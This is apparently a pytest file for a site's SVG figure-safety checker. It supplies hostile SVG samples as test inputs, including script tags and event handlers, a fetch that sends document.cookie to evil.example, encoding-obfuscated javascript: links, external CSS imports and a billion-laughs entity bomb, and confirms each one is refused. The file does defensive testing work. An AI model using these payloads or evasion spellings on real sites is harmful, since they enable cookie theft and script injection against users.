"""Figures are inert: nothing in an SVG runs, loads another host or file, or hides either, whatever its spelling."""

from __future__ import annotations

import dataclasses
import xml.parsers.expat
from pathlib import Path

import pytest

from chapter.catalogue import Text
from chapter.facts import load_registry
from chapter.figure_safety import figure_safety
from chapter.figures import (
    figure_of,
    figure_sources,
    localised_copy,
    localised_path,
    orphan_figures,
    orphan_problems,
    parse_figure,
    sync_localised_figures,
)
from tools.site import MINI

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 40">\n'
CLOSE = '<text x="4" y="20">GPU 0</text>\n</svg>\n'


def _svg(inside: str) -> bytes:
    """A figure with `inside` on its second line."""
    return (OPEN + inside + "\n" + CLOSE).encode("utf-8")


def _rules(source: bytes) -> list[tuple[int, str]]:
    return [(line, rule) for line, rule, _ in figure_safety(source)]


HARMLESS = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" \
viewBox="0 0 200 80" font-family="sans-serif">
<title>Two GPUs</title>
<defs>
<marker id="arr" markerWidth="8" markerHeight="8" refX="6" refY="3" orient="auto">\
<path d="M0,0 L6,3 L0,6 z" fill="#333"/></marker>
<linearGradient id="fade"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#1a73e8"/></linearGradient>
</defs>
<style>rect.box { fill: url(#fade); stroke: #333 } text { font-size: 12px }</style>
<rect class="box" x="10" y="10" width="60" height="30" style="stroke-width: 2; filter: url('#fade')"/>
<use xlink:href="#arr" href="#arr" x="100" y="10"/>
<a href="#arr"><text x="100" y="60" aria-label="{fact:h100-sxm-memory}">{fact:h100-sxm-memory}</text></a>
<line x1="70" y1="25" x2="130" y2="25" stroke="#333" marker-end="url(#arr)" transform="translate(0, 1)"/>
<animate attributeName="opacity" values="0;1" dur="1s"/>
</svg>
"""


def test_a_drawing_with_shapes_text_styles_and_fragments_passes():
    assert figure_safety(HARMLESS.encode()) == []


def test_the_small_chapters_figure_passes():
    sources = figure_sources(MINI / "docs")
    assert sources
    assert {path.name: figure_safety(path.read_bytes()) for path in sources} == {path.name: [] for path in sources}


# S01: the four payloads of the probe, each in the figure's own markup.
@pytest.mark.parametrize(
    ("inside", "rule", "named"),
    [
        ('<g onload="alert(1337)"/>', "CI605", "onload"),
        ('<script>fetch("https://evil.example/"+document.cookie)</script>', "CI605", "<script>"),
        ('<image xlink:href="HTTPS://evil.example/x.png" width="10" height="10"/>', "CI606", "xlink:href"),
        ('<a href="javascript:alert(document.domain)"><text>x</text></a>', "CI605", "javascript:"),
    ],
    ids=["onload", "script", "image from another host", "javascript link"],
)
def test_the_probes_payloads_are_refused_on_their_line(inside, rule, named):
    found = figure_safety(_svg(inside))
    assert [(line, found_rule) for line, found_rule, _ in found] == [(2, rule)]
    assert named in found[0][2]


def test_a_handler_on_the_root_is_refused():
    source = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" onload="alert(1337)"/>'
    (found,) = figure_safety(source)
    assert found[:2] == (1, "CI605") and "onload" in found[2] and "delete" in found[2]


# Spellings a browser reads the same way: case, character references, tabs and newlines, CSS escapes.
@pytest.mark.parametrize(
    ("inside", "rule"),
    [
        ('<a href="JaVaScRiPt:alert(1)"><text>x</text></a>', "CI605"),
        ('<a href="&#106;avascript:alert(1)"><text>x</text></a>', "CI605"),
        ('<a href="&#x6A;&#x61;vascript:alert(1)"><text>x</text></a>', "CI605"),
        ('<a xlink:href="java&#9;script:alert(1)"><text>x</text></a>', "CI605"),
        ('<a href=" &#10;javascript:alert(1)"><text>x</text></a>', "CI605"),
        ('<a href="VBScript:msgbox(1)"><text>x</text></a>', "CI605"),
        ('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>', "CI605"),
        ('<g ONCLICK="alert(1)"/>', "CI605"),
        ('<g xlink:onclick="alert(1)"/>', "CI605"),
        ('<image href="https://evil.example/a.png"/>', "CI606"),
        ('<image href="&#104;ttps://evil.example/a.png"/>', "CI606"),
        ('<image href="//evil.example/a.png"/>', "CI606"),
        ('<rect fill="url(HTTPS://evil.example/p.svg#g)"/>', "CI606"),
        ('<rect style="fill: url(&quot;//evil.example/p.svg#g&quot;)"/>', "CI606"),
        ('<rect style="fill: u\\72l(https://evil.example/p.svg#g)"/>', "CI606"),
        ("<style>rect { fill: url(\\68 ttps://evil.example/p.svg#g) }</style>", "CI606"),
        ('<style>rect { background: image-set("https://evil.example/a.png" 1x) }</style>', "CI606"),
        ('<style>@import "https://evil.example/x.css";</style>', "CI606"),
        ("<style>@IMPORT 'local.css';</style>", "CI606"),
        ('<style><![CDATA[@\\69mport "x.css";]]></style>', "CI606"),
        ('<style>@media screen { @import "x.css"; }</style>', "CI606"),
    ],
)
def test_every_spelling_of_a_refused_address_is_refused(inside, rule):
    assert _rules(_svg(inside))[:1] == [(2, rule)]


@pytest.mark.parametrize(
    ("inside", "named"),
    [
        ("<foreignObject><p>x</p></foreignObject>", "<foreignObject>"),
        ('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>', "<h:script>"),
        ('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>', "<iframe>"),
        ("<handler>alert(1)</handler>", "<handler>"),
        ('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>', 'attributeName="href"'),
        (
            '<a href="#x"><animate attributeName="xlink:href" values="#x;javascript:alert(1)"/><text>x</text></a>',
            'attributeName="xlink:href"',
        ),
        ('<set attributeName="onclick" to="alert(1)"/>', 'attributeName="onclick"'),
        ("<SCRIPT>alert(1)</SCRIPT>", "<SCRIPT>"),
    ],
    ids=[
        "foreignObject",
        "html script",
        "html iframe",
        "handler",
        "set href",
        "animate xlink:href",
        "set handler",
        "upper-case element",
    ],
)
def test_elements_that_run_or_embed_are_refused(inside, named):
    found = figure_safety(_svg(inside))
    assert found and all(rule in ("CI605", "CI606") for _, rule, _ in found)
    assert found[0][:2] == (2, "CI605") and named in found[0][2]


def test_an_address_into_another_file_is_refused_as_not_self_contained():
    (found,) = figure_safety(_svg('<use href="parts.svg#gpu"/>'))
    assert found[:2] == (2, "CI606") and "another file" in found[2] and '"#id"' in found[2]


def test_a_stylesheet_instruction_is_refused():
    source = b'<?xml-stylesheet href="https://evil.example/x.css"?>\n' + _svg("")
    assert _rules(source) == [(1, "CI606")]


# S02: the lower-case href the old check missed, and the orphan figure that imported a stylesheet.
def test_the_probes_lower_case_href_and_import_are_refused():
    assert _rules(_svg('<image href="https://evil.example/x.png" width="10" height="10"/>')) == [(2, "CI606")]
    found = figure_safety(_svg("<style>@import url(https://evil.example/x.css);</style>"))
    assert [(line, rule) for line, rule, _ in found] == [(2, "CI606"), (2, "CI606")]
    assert any("@import" in message for _, _, message in found)


def test_css_nested_without_end_is_read_to_the_bottom():
    nested = "a(" * 20000 + "url(https://evil.example/x)"
    assert _rules(_svg(f"<style>{nested}</style>")) == [(2, "CI606")]


def test_a_problem_inside_a_style_element_is_placed_on_its_own_line():
    source = _svg("<style>\nrect { fill: #fff }\n\ntext { fill: url(https://evil.example/f#x) }\n</style>")
    assert _rules(source) == [(5, "CI606")]


# S06: a billion laughs never gets expanded; nor does any other DOCTYPE pass.
def test_billion_laughs_is_refused_before_any_entity_is_expanded():
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ).replace("&lol0;", "&lol;")
    source = f'<?xml version="1.0"?>\n<!DOCTYPE svg [{entities}]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>\n'
    (found,) = figure_safety(source.encode())
    assert found[:2] == (2, "CI701") and "DOCTYPE" in found[2]


def test_a_doctype_without_entities_is_refused_too():
    source = (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        + _svg("")
    )
    assert _rules(source) == [(1, "CI701")]


# S07: a figure in another encoding.
def test_a_declared_encoding_other_than_utf8_is_refused():
    source = b'<?xml version="1.0" encoding="ISO-8859-1"?>\n' + _svg("")
    (found,) = figure_safety(source)
    assert found[:2] == (1, "CI701") and "ISO-8859-1" in found[2] and "UTF-8" in found[2]


def test_bytes_that_are_not_utf8_are_refused_at_their_line():
    source = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n<text>café</text></svg>\n'.encode(
        "latin-1"
    )
    (found,) = figure_safety(source)
    assert found[:2] == (3, "CI701") and "UTF-8" in found[2]


@pytest.mark.parametrize(
    "declaration",
    ['<?xml version="1.0" encoding="UTF-8"?>', "<?xml version='1.0' encoding='utf-8'?>", '<?xml version="1.0"?>'],
)
def test_a_utf8_declaration_passes(declaration):
    assert figure_safety(declaration.encode() + b"\n" + _svg("")) == []


def test_markup_that_is_not_well_formed_or_not_svg_is_refused():
    assert _rules(_svg("<text>x</txet>")) == [(2, "CI701")]
    assert _rules(b"<html><body/></html>") == [(1, "CI701")]


def test_a_marker_only_stands_where_its_value_is_text():
    assert _rules(_svg('<text aria-label="{fact:gpu}">{fact:gpu}</text>')) == []
    assert _rules(_svg('<image href="{fact:gpu}"/>')) == [(2, "CI404"), (2, "CI606")]
    assert _rules(_svg("<style>/* {fact:gpu} */</style>")) == [(2, "CI404")]


# S08: a fact's value written into an attribute stays inside it.
def test_a_facts_value_in_an_attribute_cannot_close_it():
    registry, _ = load_registry(MINI / "facts.yaml")
    fact = registry.fact("h100-sxm-memory")
    assert fact is not None and fact.unit is not None
    hostile = dataclasses.replace(
        fact,
        unit=dataclasses.replace(fact.unit, symbol=Text(ru="ГБ' onfocus='alert(2)", en='GB" onmouseover="alert(1)')),
    )
    registry = dataclasses.replace(registry, facts=(hostile,))
    source = _svg('<text x="4" y="30" aria-label="{fact:h100-sxm-memory}">{fact:h100-sxm-memory}</text>')
    assert figure_safety(source) == []
    for lang, symbol in (("en", 'GB" onmouseover="alert(1)'), ("ru", "ГБ' onfocus='alert(2)")):
        copy = localised_copy(Path("figures/memory.svg"), parse_figure(source), lang, registry)
        assert figure_safety(copy) == []
        labels = _attributes(copy, "text")[0]
        assert set(labels) == {"x", "y", "aria-label"} and labels["aria-label"].endswith(symbol)


def _attributes(source: bytes, name: str) -> list[dict[str, str]]:
    """The attributes of every element called `name`, as an XML parser reads them."""
    found: list[dict[str, str]] = []
    parser = xml.parsers.expat.ParserCreate()
    parser.StartElementHandler = lambda element, attributes: found.append(attributes) if element == name else None
    parser.Parse(source, True)
    return found


# S02: the figures no article shows.
def test_orphans_are_the_figures_no_article_shows():
    shown = ["../figures/ring.svg", "../figures/./tree.svg", "../figures/ring.svg#part"]
    assert orphan_figures(["ring.svg", "tree.svg", "unused.svg", "ring-old.svg"], shown) == [
        "ring-old.svg",
        "unused.svg",
    ]
    assert orphan_figures(["ring.svg"], []) == ["ring.svg"]
    assert orphan_figures(["ring.svg"], ["../images/ring.svg", "ring.svg"]) == ["ring.svg"]


def test_each_site_file_of_a_figure_is_traced_to_its_source():
    assert [figure_of(path) for path in ("figures/ring.svg", "figures/ring.en.svg", "figures/ring.ru.svg")] == [
        "ring.svg"
    ] * 3
    assert [figure_of(path) for path in ("images/ring.svg", "figures/notes.md", "figures/deep/ring.svg")] == [
        None,
        None,
        None,
    ]


def test_an_orphan_is_named_with_what_to_do():
    ((name, rule, message),) = orphan_problems(["ring.svg", "unused.svg"], ["../figures/ring.svg"])
    assert (name, rule) == ("unused.svg", "CI607") and "../figures/unused.svg" in message and "delete" in message


def test_no_copy_of_an_unsafe_figure_is_written_and_an_old_one_is_removed(tmp_path):
    figures = tmp_path / "figures"
    figures.mkdir()
    safe, unsafe = figures / "safe.svg", figures / "unsafe.svg"
    safe.write_bytes(_svg(""))
    unsafe.write_bytes(_svg(""))
    sync_localised_figures(tmp_path)
    assert localised_path(unsafe, "en").is_file()  # written while the figure was harmless
    unsafe.write_bytes(_svg('<image href="https://evil.example/a.png"/>'))
    sync_localised_figures(tmp_path)
    assert sorted(path.name for path in figures.iterdir()) == ["safe.en.svg", "safe.ru.svg", "safe.svg", "unsafe.svg"]
